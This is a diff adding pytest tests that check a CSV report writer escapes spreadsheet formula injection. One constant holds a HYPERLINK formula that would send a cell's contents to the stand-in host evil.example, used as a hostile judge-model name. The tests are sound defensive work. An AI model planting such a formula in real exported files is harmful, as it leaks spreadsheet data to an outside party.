@@ -271,3 +271,61 @@ def test_when_a_threshold_option_is_absurd_then_it_is_refused_at_start_not_expan
     assert "--ora-regression-min takes scale points" in result.stderr.str()
     assert "--ora-disagreement takes scale points" in refused.stderr.str()
     assert time.monotonic() - started < 60
+
+
+# --- spreadsheet formula injection ---------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _formula_cells(text: str) -> list[str]:
+    """CSV cells a spreadsheet would run: text starting with =, +, -, @, tab or CR that is not a number."""
+    import re
+
+    number = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+    return [cell for cell in _csv_cells(text) if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(cell)]
+
+
+def test_when_a_judge_model_or_rubric_id_starts_a_formula_then_no_csv_cell_is_one(project: pytest.Pytester) -> None:
+    """A judge's model name `=HYPERLINK(...)`: ledger.csv, summary.csv and disagreements.csv hold it as text (a leading
+    apostrophe); numbers (negative spreads, scores) stay numbers."""
+    from e2e import record
+
+    optimum = project.path / "bundle" / "optimum.yaml"
+    optimum.write_text(optimum.read_text(encoding="utf-8").replace("model: claude-opus-4-7", f"model: '{FORMULA}'"),
+                       encoding="utf-8")
+
+    result = record(project, "--ora-disagreement", "0")
+
+    assert result.ret in (0, 1), result.stderr.str()
+    out = project.path / "ora-results"
+    written = sorted(out.glob("*.csv"))
+    assert {p.name for p in written} >= {"ledger.csv", "summary.csv", "disagreements.csv"}
+    for path in written:
+        assert _formula_cells(path.read_text(encoding="utf-8")) == [], path.name
+    assert f"'{FORMULA}" in _csv_cells((out / "ledger.csv").read_text(encoding="utf-8"))
+
+
+def test_every_csv_writer_neutralises_formulas_and_keeps_numbers() -> None:
+    """summary.csv and disagreements.csv with a rubric id `@SUM(1)`; and no CSV is written but through csv_line."""
+    import dataclasses
+    from fractions import Fraction
+
+    from pytest_ora.core.csvtext import csv_line
+    from pytest_ora.method.rubric import get_rubric
+    from pytest_ora.reports.statistics import disagreements_csv
+    from pytest_ora.reports.tables import summary_csv
+    from pytest_ora.stats.disagreements import Disagreement
+
+    rubric = dataclasses.replace(get_rubric("ora-1.0"), version="@SUM(1)")
+    rows = [Disagreement("-cmd:x/+y", "\tcrit", (-1.5, 2.0), Fraction(7, 2))]
+    table = [["-config", *["-1.25"] * (len(_csv_cells(summary_csv([], rubric))) - 4), "0"]]
+
+    for text in (disagreements_csv(rows, ["A", "B"], "=1+1"), summary_csv(table, rubric)):
+        assert _formula_cells(text) == []
+        assert "-1.5" in _csv_cells(text) or "-1.25" in _csv_cells(text)  # numbers stay numbers
+    assert csv_line(["+1", "-2.5e3", "+x", "@x", "\rx", "plain", 3]) == "+1,-2.5e3,'+x,'@x,'\rx,plain,3\n"
+    package = Path(__file__).parent.parent / "pytest_ora"
+    writers = [str(p.relative_to(package)) for p in package.rglob("*.py")
+               if "csv.writer(" in p.read_text(encoding="utf-8") and p.parts[-2] != "testing"]
+    assert writers == ["core/csvtext.py"]
